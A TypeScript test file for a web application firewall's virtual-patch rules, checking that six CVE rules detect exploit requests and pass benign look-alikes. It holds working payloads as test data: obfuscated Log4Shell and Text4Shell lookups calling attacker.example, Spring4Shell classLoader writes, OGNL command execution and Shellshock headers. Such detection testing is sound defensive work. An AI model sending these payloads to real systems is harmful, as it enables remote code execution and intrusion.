/**
 * The virtual-patch pack (conf/virtual-patches.conf): each CVE rule blocks its exploit
 * requests, including the obfuscations seen in the wild, and lets look-alike benign
 * requests through.
 */
import { describe, expect, it } from 'vitest';
import { Waf, bundledConfig } from '../src/index.js';

// Detection only, so every rule is evaluated and each case shows which patches fire.
const waf = Waf.fromText(`Include "${bundledConfig('base.conf')}"\nSecRuleEngine DetectionOnly\nInclude "${bundledConfig('virtual-patches.conf')}"`);

interface Req {
  method?: string;
  uri?: string;
  headers?: [string, string][];
  body?: string;
}

function verdict(r: Req): number[] {
  const tx = waf.newTransaction();
  const method = r.method ?? (r.body ? 'POST' : 'GET');
  const uri = r.uri ?? '/';
  const headers: [string, string][] = [['Host', 'shop.example'], ['User-Agent', 'Mozilla/5.0'], ...(r.body ? [['Content-Type', 'application/x-www-form-urlencoded'] as [string, string]] : []), ...(r.headers ?? [])];
  tx.processRequestHeaders({ method, uri, protocol: 'HTTP/1.1', line: `${method} ${uri} HTTP/1.1`, headers });
  tx.processRequestBody(Buffer.from(r.body ?? ''));
  return tx.matched.filter((m) => m.id >= 95000 && m.id < 95100).map((m) => m.id);
}

const CASES: { cve: string; id: number; attacks: Req[]; benign: Req[] }[] = [
  {
    cve: 'Log4Shell',
    id: 95001,
    attacks: [
      { headers: [['User-Agent', '${jndi:ldap://attacker.example/a}']] },
      { headers: [['X-Api-Version', '${${lower:j}ndi:${lower:l}dap://x/a}']] },
      { uri: '/?q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7D%24%7B%3A%3A-d%7D%24%7B%3A%3A-i%7D%3Aldap%3A%2F%2Fx%7D' },
      { body: 'user=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}' },
      { headers: [['Referer', '${JNDI:RMI://x/a}']] },
      { headers: [['X-Forwarded-For', '$\\u007bjndi:dns://x/a}']] },
    ],
    benign: [{ uri: '/search?q=price+%24100' }, { body: 'template=Hello ${name}, welcome' }, { body: 'script=echo ${HOME:-/root}' }, { headers: [['Accept', 'text/html']] }],
  },
  {
    cve: 'Text4Shell',
    id: 95002,
    attacks: [{ uri: '/?q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime().exec(%27id%27)%7D' }, { body: 'x=${dns:address|attacker.example}' }, { body: 'x=${url:UTF-8:http://attacker.example/}' }],
    benign: [{ body: 'note=the script: run it' }, { uri: '/?url=https%3A%2F%2Fexample.com' }],
  },
  {
    cve: 'Spring4Shell',
    id: 95003,
    attacks: [
      { body: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di' },
      { uri: '/?class.module.classLoader.URLs%5B0%5D=0' },
      { body: "class['module']['classLoader'].resources.context.parent.pipeline.first.suffix=.jsp" },
    ],
    benign: [{ body: 'class=economy&module=3' }, { uri: '/courses?class=101&module=intro' }, { body: 'title=The classLoader pattern explained' }],
  },
  {
    cve: 'Struts OGNL',
    id: 95004,
    attacks: [
      { headers: [['Content-Type', "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):1).(#cmd='id')}"]] },
      { uri: '/struts2-showcase/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%29%7D/actionChain1.action' },
      { body: "id=%25%7B(%23instancemanager%3D%23application%5B%22org.apache.tomcat.InstanceManager%22%5D)%7D" },
    ],
    benign: [{ body: 'comment=50% off {today}' }, { uri: '/?tag=%23summer' }, { headers: [['Content-Type', 'multipart/form-data; boundary=x']], body: '--x--' }],
  },
  {
    cve: 'Confluence OGNL',
    id: 95005,
    attacks: [
      { uri: '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/' },
      { body: 'queryString=aaa\\u0027%2b{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027)}%2b\\u0027' },
      { body: 'label=\\u0027%2b#request[\\u0027.KEY_velocity.struts2.context\\u0027].internalGet(\\u0027ognl\\u0027)%2b\\u0027' },
    ],
    benign: [{ uri: '/wiki/spaces/DOC/pages/123/Release+notes' }, { body: 'queryString=release notes 2024' }],
  },
  {
    cve: 'Shellshock',
    id: 95006,
    attacks: [{ headers: [['User-Agent', '() { :; }; /bin/bash -c "id"']] }, { headers: [['Referer', '() { _; } >_[$($())] { id; }']] }, { uri: '/cgi-bin/status?x=%28%29%20%7B%20%3A%3B%20%7D%3B%20ping%20-c1%20x' }],
    benign: [{ body: 'code=function f() { return 1; }' }, { headers: [['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64)']] }],
  },
];

describe('virtual-patch pack', () => {
  for (const c of CASES) {
    it(`${c.cve}: blocks ${c.attacks.length} exploit requests`, () => {
      for (const a of c.attacks) expect(verdict(a), JSON.stringify(a)).toContain(c.id);
    });
    it(`${c.cve}: lets ${c.benign.length} look-alike requests through`, () => {
      for (const b of c.benign) expect(verdict(b), JSON.stringify(b)).toEqual([]);
    });
  }
});
